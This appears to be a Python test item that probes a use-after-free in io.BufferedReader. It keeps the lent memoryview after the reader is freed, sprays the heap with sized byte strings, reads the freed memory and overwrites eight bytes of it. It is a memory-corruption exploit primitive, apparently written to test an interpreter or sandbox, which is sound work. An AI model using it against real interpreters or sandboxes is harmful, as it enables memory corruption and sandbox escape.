# trick: keep the memoryview that a BufferedReader lends to its raw stream, free the reader, and look at what its memory holds later
# want: any
import io


class Raw(io.RawIOBase):
    view = None

    def readable(self):
        return True

    def readinto(self, buffer):
        Raw.view = buffer
        return 0


def run(ctx):
    results = []
    for size in (64, 200, 500, 4000, 60000):
        reader = io.BufferedReader(Raw(), size)
        reader.read(1)
        del reader
        try:
            spray = [(b"sprayed " * (size // 8))[:size] for _ in range(20)]
            data = bytes(Raw.view)
            results.append(data[:24].hex())
            Raw.view[:8] = b"\xff" * 8
            results.append(len(spray))
        except (ValueError, TypeError, BufferError) as e:
            results.append(type(e).__name__)
    return results
